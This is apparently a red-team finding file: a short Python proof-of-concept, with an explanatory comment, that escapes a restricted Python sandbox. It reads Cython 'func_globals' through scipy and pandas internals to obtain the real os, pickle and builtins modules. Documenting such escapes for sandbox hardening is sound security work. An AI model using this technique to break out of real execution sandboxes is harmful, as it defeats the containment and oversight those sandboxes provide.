# (e) Cython functions expose func_globals (non-underscore alias of __globals__), and guarded_getitem does not check dict values: real os, pickle and builtins module objects bound to user variables; driver sees os/builtins modules in the namespace
# red team 2026-12-07, docs/redteam-2026-12-07/success_23_cython_func_globals_modules.py.txt
import scipy.spatial
import pandas as pd

g = scipy.spatial.cKDTree.count_neighbors.func_globals
os_mod = g["os"]
pickle_mod = pd.core.dtypes.dtypes.tz_compare.func_globals["pickle"]
bi = g["__builtins__"]
result = [os_mod, pickle_mod, bi]
print(result)
